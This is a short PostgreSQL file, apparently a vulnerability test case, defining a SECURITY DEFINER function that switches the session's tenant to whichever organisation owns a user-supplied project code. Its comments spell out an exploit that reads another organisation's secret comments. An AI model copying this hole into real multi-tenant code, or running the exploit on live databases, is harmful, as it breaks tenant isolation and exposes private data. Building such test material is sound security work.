-- The function for links takes a project's code, which people choose, and moves the transaction into the
-- organisation that owns it.
-- about: open_project, projects, segments, current_org
-- as: hf_glossa_app
-- exploit: SET app.current_org = 'north';
-- exploit: BEGIN;
-- exploit: SELECT open_project('merger');
-- exploit: SELECT body FROM comments;
-- exploit: ROLLBACK;
-- shows: Road-secret comment
-- Links in mails carry only the code of the project.
CREATE FUNCTION open_project(p_code text) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
DECLARE v_org text;
BEGIN
  SELECT p.org INTO v_org FROM public.projects p WHERE p.code = p_code;
  PERFORM set_config('app.current_org', v_org, true);
  RETURN FOUND;
END $$;
REVOKE EXECUTE ON FUNCTION open_project(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION open_project(text) TO hf_glossa_app;
